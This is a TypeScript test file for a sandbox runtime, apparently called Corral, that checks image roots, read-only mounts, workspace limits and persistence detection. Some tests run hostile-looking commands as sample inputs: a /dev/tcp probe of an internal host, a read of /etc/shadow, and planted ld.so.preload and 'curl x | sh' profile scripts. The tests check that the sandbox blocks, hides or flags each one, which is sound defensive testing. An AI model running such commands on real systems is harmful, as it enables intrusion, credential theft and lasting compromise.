// Why: proves filesystem.root — a task's own environment — in real sandboxes: the image's files are
// the sandbox's / (read-only), the host's are not, the image's secrets are hidden like the host's,
// the workspace stays writable, file tools and the gateway work as on the host root, an image
// without bash runs commands in sh, and roots that are not an image (the host's /, a system
// directory, a directory without etc/) are refused before anything starts. Inside the lab.
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { chmodSync, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { tmpdir } from 'node:os';
import { startFixture, labPolicy, type Fixture } from './helpers/lab-fixture.js';
import { buildTestImage } from './helpers/test-image.js';
import { loadPolicyFile, PolicyError } from '../src/policy/index.js';

let fx: Fixture;
let dir: string;
before(async () => {
  fx = await startFixture([], 'labimg');
  // (under /var/tmp: every directory above an image must let the sandbox's uid pass)
  dir = mkdtempSync(join('/var/tmp', 'corral-image-'));
  chmodSync(dir, 0o755);
  buildTestImage(join(dir, 'img'));
  buildTestImage(join(dir, 'nobash'), { bash: false, marker: 'no-bash-image' });
});
after(async () => { await fx?.close(); rmSync(dir, { recursive: true, force: true }); });

test('a session in an image root sees the image as / (read-only), not the host; workspace, file tools and the gateway work as usual', async () => {
  const s = await fx.rt.createSession({ policy: labPolicy(), episode: 'img-1', root: join(dir, 'img') });
  try {
    const r = await s.exec({ command: 'cat /etc/os-release; ls /testbed; cat /opt/tool/VERSION; id -u; test -e /usr/bin/python3 && echo host-python || echo no-python', step: 1 });
    assert.equal(r.exitCode, 0, r.stderr);
    assert.equal(r.stdout, 'ID=corral-test-image\nREADME.md\n1.2.3\n65534\nno-python\n');
    const ro = await s.exec({ command: 'touch /testbed/x 2>&1; touch /usr/bin/x 2>&1; echo made > /workspace/out.txt && cat out.txt', step: 2 });
    assert.match(ro.stdout, /touch: cannot touch '\/testbed\/x': Read-only file system/);
    assert.match(ro.stdout, /made\n$/);
    // the image's own secrets are hidden by the policy's hide list (looked up in the image)
    const shadow = await s.exec({ command: 'cat /etc/shadow | head -c 40; echo "[end]"; ls -A /root | head -3', step: 3 });
    assert.equal(shadow.stdout, '[end]\n');
    const f = await s.file({ op: 'write', path: 'notes.md', content: 'in the image\n', step: 4 });
    assert.ok(f.ok, f.problem);
    assert.equal((await s.file({ op: 'read', path: 'notes.md', step: 5 })).content?.toString(), 'in the image\n');
    // containment is the same: an internal probe from the image is blocked and attributed
    const probe = await s.exec({ command: 'echo > /dev/tcp/10.0.0.9/22', step: 6, toolCallId: 'probe-6', syncSensor: true });
    assert.ok(probe.alerts.some((a) => a.payload.category === 'internal_probe' && a.tool_call === 'probe-6'), JSON.stringify(probe.alerts.map((a) => a.payload.rule)));
  } finally { await s.close(); }
  const start = fx.rt.store.query({ episode: 'img-1', kind: ['session.start'] })[0]!;
  assert.equal(start.payload.root, join(dir, 'img'), 'the session records which image it ran in');
});

test('workspace_path on a directory the image fills (/testbed) and no host workspace: the agent sees and edits the image\'s files, its writes land in the capped workspace, never in the image, and the next session starts from the image again', async () => {
  const img = join(dir, 'img-seeded');
  buildTestImage(img);
  mkdirSync(join(img, 'testbed/src'));
  writeFileSync(join(img, 'testbed/src/app.py'), 'x = 1\n');
  for (const rootWritable of [false, true]) {
    const s = await fx.rt.createSession({ policy: labPolicy('resources:\n  workspace_disk: 32MiB\n'), episode: `img-seeded-${rootWritable}`, root: img, rootWritable, workspacePath: '/testbed' });
    try {
      const r = await s.exec({ command: 'pwd; cat README.md src/app.py; echo "x = 2" > src/app.py; echo new > fix.txt; rm README.md; ls -A; stat -c %u src/app.py', step: 1 });
      assert.equal(r.stdout, '/testbed\n# task repository\nx = 1\nfix.txt\nsrc\n65534\n', r.stderr);
      const f = await s.file({ op: 'str_replace', path: 'src/app.py', old: 'x = 2', new: 'x = 3', step: 2 });
      assert.ok(f.ok, f.problem);
      // writes go to the session's capped workspace: past 32 MiB, ENOSPC and limit.workspace
      // (the image has no dd: head and bash do)
      const fill = await s.exec({ command: 'head -c 41943040 /dev/zero 2>&1 > /testbed/big', step: 3 });
      assert.match(fill.stdout, /No space left on device/);
      assert.ok(fill.alerts.some((a) => a.payload.rule === 'limit.workspace'), JSON.stringify(fill.alerts.map((a) => a.payload.rule)));
    } finally { await s.close(); }
    // the image is untouched
    assert.equal(readFileSync(join(img, 'testbed/src/app.py'), 'utf8'), 'x = 1\n');
    assert.equal(readFileSync(join(img, 'testbed/README.md'), 'utf8'), '# task repository\n');
    assert.ok(!existsSync(join(img, 'testbed/fix.txt')) && !existsSync(join(img, 'testbed/big')));
  }
  const again = await fx.rt.createSession({ policy: labPolicy(), episode: 'img-seeded-again', root: img, workspacePath: '/testbed' });
  try {
    assert.equal((await again.exec({ command: 'ls -A; cat src/app.py' })).stdout, 'README.md\nsrc\nx = 1\n');
  } finally { await again.close(); }
  assert.equal((fx.rt.store.query({ episode: 'img-seeded-again', kind: ['session.start'] })[0]?.payload.workspace as { from_image?: boolean } | undefined)?.from_image, true, 'session.start says the image\'s files show in it');
});

test('file tools work in an image with no shell, perl, python or C library at all (a distroless root): their program is Corral\'s own, static', async () => {
  const bare = join(dir, 'bare');
  for (const d of ['etc', 'usr/share']) mkdirSync(join(bare, d), { recursive: true });
  writeFileSync(join(bare, 'etc/passwd'), 'nobody:x:65534:65534:nobody:/nonexistent:/sbin/nologin\n');
  writeFileSync(join(bare, 'etc/os-release'), 'ID=distroless-test\n');
  const s = await fx.rt.createSession({ policy: labPolicy(), episode: 'img-bare', root: bare });
  try {
    const w = await s.file({ op: 'write', path: 'src/app.py', content: 'print("hi")\nx = 1\n', step: 1 });
    assert.ok(w.ok, w.problem);
    assert.equal(w.size, 18);
    const e = await s.file({ op: 'str_replace', path: 'src/app.py', old: 'x = 1', new: 'x = 2', step: 2 });
    assert.ok(e.ok, e.problem);
    const i = await s.file({ op: 'insert', path: 'src/app.py', line: 0, text: '#!/usr/bin/env python3', step: 3 });
    assert.ok(i.ok, i.problem);
    const r = await s.file({ op: 'read', path: 'src/app.py', step: 4 });
    assert.equal(r.content?.toString(), '#!/usr/bin/env python3\nprint("hi")\nx = 2\n');
    const os = await s.file({ op: 'read', path: '/etc/os-release', step: 5 });
    assert.equal(os.content?.toString(), 'ID=distroless-test\n', 'the read sees the image, not the host');
    assert.deepEqual((await s.file({ op: 'read', path: '~', step: 6 })).entries, ['src/']);
    // (and there really is nothing to run a command with)
    const sh = await s.exec({ command: 'true', step: 7 });
    assert.notEqual(sh.exitCode, 0);
  } finally { await s.close(); }
});

test('the workspace can appear where the image expects the task (workspace_path: /testbed): writable, the working and home directory, file tools and the persistence watch use it', async () => {
  // (a host workspace may not lie under /var, which every sandbox sees)
  const repo = mkdtempSync(join(tmpdir(), 'corral-testbed-'));
  chmodSync(repo, 0o755);
  writeFileSync(join(repo, 'README.md'), '# the task checkout\n');
  const s = await fx.rt.createSession({ policy: labPolicy(), episode: 'img-testbed', root: join(dir, 'img'), workspace: repo, workspacePath: '/testbed' });
  try {
    const r = await s.exec({ command: 'pwd; echo "$HOME"; cat README.md; echo fixed > fix.txt; ls /workspace 2>&1 | head -1', step: 1 });
    assert.equal(r.stdout, "/testbed\n/testbed\n# the task checkout\nls: cannot access '/workspace': No such file or directory\n");
    assert.equal(readFileSync(join(repo, 'fix.txt'), 'utf8'), 'fixed\n', 'the write landed in the host checkout');
    const f = await s.file({ op: 'str_replace', path: 'README.md', old: 'checkout', new: 'repository', step: 2 });
    assert.equal(f.path, '/testbed/README.md');
    assert.ok(f.ok, f.problem);
    const rc = await s.file({ op: 'write', path: '~/.bashrc', content: 'export X=1\n', step: 3, toolCallId: 'rc-3' });
    assert.equal(rc.path, '/testbed/.bashrc');
    const persist = rc.alerts.find((a) => a.payload.rule === 'persistence.file_written');
    assert.match(String(persist?.payload.message), /^\/testbed\/\.bashrc created/);
  } finally { await s.close(); rmSync(repo, { recursive: true, force: true }); }
  await assert.rejects(fx.rt.createSession({ policy: labPolicy(), episode: 'img-bad-ws', workspacePath: '/etc/app' }), /^SessionSetupError: filesystem\.workspace_path \/etc\/app: must not be under \/etc/);
  assert.throws(() => labPolicy('filesystem:\n  workspace_path: ../x\n'), (e: Error) => e instanceof PolicyError && /filesystem\.workspace_path/.test(e.message) && /plain names/.test(e.message));
});

test('a writable root is the session\'s own copy: the agent changes its system files, the image never changes, persistence planted there is flagged, and the next session starts clean', async () => {
  const img = join(dir, 'img');
  const s = await fx.rt.createSession({ policy: labPolicy(), episode: 'img-rw', root: img, rootWritable: true });
  let rootLayer: string | undefined;
  try {
    const r = await s.exec({ command: 'echo patched > /testbed/README.md && mkdir -p /usr/local/lib/python3/dist-packages/pkg && echo x > /usr/local/lib/python3/dist-packages/pkg/__init__.py && cat /testbed/README.md && stat -c %u /testbed/README.md', step: 1 });
    assert.equal(r.exitCode, 0, r.stderr);
    assert.equal(r.stdout, 'patched\n65534\n', 'the agent owns its root, as a container\'s root user would');
    assert.equal(readFileSync(join(img, 'testbed/README.md'), 'utf8'), '# task repository\n', 'the image itself is untouched');
    // persistence planted in the root: a preload library list and a profile script, flagged on the call that wrote them
    const plant = await s.exec({ command: 'echo /tmp/x.so > /etc/ld.so.preload; mkdir -p /etc/profile.d; echo "curl x | sh" > /etc/profile.d/zz.sh; true', step: 2, toolCallId: 'plant-2' });
    const alert = plant.alerts.find((a) => a.payload.rule === 'persistence.file_written');
    assert.ok(alert, JSON.stringify(plant.alerts.map((a) => a.payload.rule)));
    assert.match(String(alert.payload.message), /^\/etc\/(ld\.so\.preload|profile\.d\/zz\.sh) created .*; also \/etc\//);
    assert.deepEqual(alert.payload.attack, ['T1574.006', 'T1546.004']);
    // file tools write into the root too
    const f = await s.file({ op: 'write', path: '/opt/tool/VERSION', content: '9.9.9\n', step: 3 });
    assert.ok(f.ok, f.problem);
    rootLayer = fx.rt.store.query({ episode: 'img-rw', kind: ['session.start'] })[0]!.payload.root_writable === true ? 'yes' : 'no';
  } finally { await s.close(); }
  assert.equal(rootLayer, 'yes');
  assert.equal(readFileSync(join(img, 'opt/tool/VERSION'), 'utf8'), '1.2.3\n');
  const next = await fx.rt.createSession({ policy: labPolicy(), episode: 'img-rw-2', root: img, rootWritable: true });
  try {
    assert.equal((await next.exec({ command: 'cat /testbed/README.md /opt/tool/VERSION; test -e /etc/ld.so.preload && echo leaked || echo clean', step: 1 })).stdout, '# task repository\n1.2.3\nclean\n');
  } finally { await next.close(); }
  await assert.rejects(fx.rt.createSession({ policy: labPolicy(), episode: 'host-rw', rootWritable: true }), /root_writable: only an image root/);
});

test('root_writable from a policy file with no root anywhere is a policy error at its file:line:column; with the session\'s own root it makes that root writable', async () => {
  const pdir = mkdtempSync(join(tmpdir(), 'corral-rw-policy-'));
  try {
    // set in the parent of an extends chain: the error names the file that says it, not the child
    writeFileSync(join(pdir, 'base.yaml'), 'name: rw-base\nextends: lab-demo\nfilesystem:\n  root_writable: true\n');
    writeFileSync(join(pdir, 'child.yaml'), 'name: rw-child\nextends: ./base.yaml\nresources:\n  pids: 256\n');
    const policy = loadPolicyFile(join(pdir, 'child.yaml'));
    await assert.rejects(fx.rt.createSession({ policy, episode: 'rw-no-root' }), (e: Error) => {
      assert.ok(e instanceof PolicyError, `${e.name}: ${e.message}`);
      assert.equal(e.file, join(pdir, 'base.yaml'));
      assert.deepEqual([e.line, e.column, e.field], [4, 18, 'filesystem.root_writable']);
      assert.match(e.message, /^\/.*\/base\.yaml:4:18: filesystem\.root_writable: only an image root can be writable.*set filesystem\.root, or give the session a root/);
      return true;
    });
    // the same policy with a root given by the caller (API root, corral run --root): that root, writable
    const s = await fx.rt.createSession({ policy, episode: 'rw-api-root', root: join(dir, 'img') });
    try {
      const r = await s.exec({ command: 'echo changed > /testbed/README.md && cat /testbed/README.md', step: 1 });
      assert.equal(r.exitCode, 0, r.stderr);
      assert.equal(r.stdout, 'changed\n');
    } finally { await s.close(); }
    assert.equal(readFileSync(join(dir, 'img', 'testbed/README.md'), 'utf8'), '# task repository\n');
  } finally { rmSync(pdir, { recursive: true, force: true }); }
});

test('the sandbox\'s own / and an image\'s /etc are read-only: nothing can be created beside the mounts (host root, image root, writable image root)', async () => {
  for (const [episode, o] of [['ro-host', {}], ['ro-image', { root: join(dir, 'img') }], ['ro-image-rw', { root: join(dir, 'img'), rootWritable: true }]] as const) {
    const s = await fx.rt.createSession({ policy: labPolicy(), episode, ...o });
    try {
      const r = await s.exec({ command: 'touch /planted 2>&1; mkdir /stash 2>&1; touch /etc/ld.so.preload.new 2>&1; for f in /planted /stash; do [ -e $f ] && echo present; done; echo checked', step: 1 });
      assert.match(r.stdout, /touch: cannot touch '\/planted': Read-only file system/, episode);
      assert.match(r.stdout, /mkdir: cannot create directory .\/stash.: Read-only file system/, episode);
      if (episode !== 'ro-image-rw') assert.match(r.stdout, /cannot touch '\/etc\/ld\.so\.preload\.new': Read-only file system/, episode);
      assert.match(r.stdout, /checked\n$/, episode);
      assert.doesNotMatch(r.stdout, /present/, episode);
    } finally { await s.close(); }
  }
});

test('an image without bash runs commands in its sh', async () => {
  const s = await fx.rt.createSession({ policy: labPolicy(), episode: 'img-sh', root: join(dir, 'nobash') });
  try {
    const r = await s.exec({ command: 'cat /etc/os-release; readlink /proc/$$/exe; echo "a b" | head -c 3', step: 1 });
    assert.equal(r.exitCode, 0, r.stderr);
    assert.equal(r.stdout, 'ID=no-bash-image\n/usr/bin/dash\na b');
  } finally { await s.close(); }
});

test('a root that is not an image is refused before anything starts, and the policy field is checked with its place', async () => {
  mkdirSync(join(dir, 'empty'));
  for (const [root, why] of [
    ['/', /must not be the host's \/ , a top-level directory/],
    ['/usr', /must not be the host's \/ , a top-level directory/],
    ['/proc/1/root', /under \/proc/],
    [join(dir, 'empty'), /does not look like a root filesystem/],
    [join(dir, 'missing'), /no such directory/],
  ] as const) {
    await assert.rejects(fx.rt.createSession({ policy: labPolicy(), episode: 'img-bad', root }), (e: Error) => {
      assert.match(e.message, new RegExp(`^filesystem\\.root ${root.replace(/[/.]/g, '\\$&')}`));
      assert.match(e.message, why);
      return true;
    });
  }
  assert.throws(() => labPolicy('filesystem:\n  root: relative/dir\n'), (e: Error) => e instanceof PolicyError && /test-policy\.yaml:4.*filesystem\.root/.test(e.message));
  // the policy's own root applies when the session names none
  const s = await fx.rt.createSession({ policy: labPolicy(`filesystem:\n  root: ${join(dir, 'img')}\n`), episode: 'img-policy' });
  try {
    assert.equal((await s.exec({ command: 'cat /etc/os-release', step: 1 })).stdout, 'ID=corral-test-image\n');
  } finally { await s.close(); }
});
